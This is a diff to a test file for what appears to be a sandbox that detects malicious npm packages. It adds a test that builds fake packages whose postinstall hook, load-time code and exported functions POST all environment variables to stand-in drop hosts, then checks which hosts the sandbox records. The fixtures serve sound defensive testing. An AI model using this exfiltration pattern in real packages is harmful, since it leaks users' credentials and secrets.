@@ -354,6 +354,43 @@ def start(token):
     expect(dynamicFindings(run).signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-network', 'sandbox-system-info-egress'])
   })
 
+  it('stands in for an npm package\'s missing dependencies, required or imported, at install, at load and when called', { timeout: 90_000 }, async () => {
+    const post = (host: string) => `require('https').request({ host: '${host}', method: 'POST', path: '/' }, (r) => r.resume()).on('error', () => {}).end(JSON.stringify(process.env))`
+    const cjs = await npmRun(
+      {
+        'install.js': `const chalk = require('chalk-for-gatehouse-tests')\nconst { post } = require('axios-for-gatehouse-tests/lib/core')\nconsole.log(chalk.green('ok'), typeof post)\n${post('install-drop.example-sink.net')}\n`,
+        'index.js': `const { red } = require('colors-for-gatehouse-tests')
+class Bot extends require('telegraf-for-gatehouse-tests').Telegraf {
+  start(token) { ${post('k3y-drop.ngrok-free.app')} }
+}
+try { require('./absent'); ${post('relative-stand-in.example-sink.net')} } catch {}
+${post('load-drop.example-sink.net')}
+module.exports = { Bot, paint: (s) => red(s) }
+`,
+      },
+      { postinstall: 'node install.js' },
+      { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 40_000 },
+    )
+    expect(cjs.run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
+      ['postinstall', 0],
+      ['load index.js', 0],
+      ['call sandboxed', 0],
+    ])
+    const hosts = (run: typeof cjs.run) => new Set(run.runs[0]!.network.flatMap((e) => (e.kind === 'http' ? [e.host] : [])))
+    expect([...hosts(cjs.run)].sort()).toEqual(['install-drop.example-sink.net', 'k3y-drop.ngrok-free.app', 'load-drop.example-sink.net'])
+
+    const esm = await npmEcosystem.readArtifact(
+      await npmTarball('esm-stand-ins', '1.0.0', { 'index.js': `import kleur, { red, green as g } from 'kleur-for-gatehouse-tests'\nimport https from 'node:https'\nconsole.log(typeof kleur, typeof red, typeof g)\nexport function upload() { ${post('k3y-drop.ngrok-free.app').replace("require('https')", 'https')} }\n` }, { type: 'module' }),
+      DEFAULT_ARCHIVE_LIMITS,
+    )
+    const run = await runSandbox(npmEcosystem, esm, { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 30_000 })
+    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
+      ['load index.js', 0],
+      ['call esm-stand-ins', 0],
+    ])
+    expect([...hosts(run)]).toEqual(['k3y-drop.ngrok-free.app'])
+  })
+
   it('runs Python with its declared libraries only: requests is real and its post leaves; what the host added is hidden', { timeout: 60_000 }, async () => {
     // a module and a start-up .pth file installed on the host outside the declared set, as pip or a machine's own tooling leaves them
     const hostSite = String(spawnSync('/usr/bin/python3', ['-c', 'import site; print(site.getsitepackages()[0])']).stdout).trim()
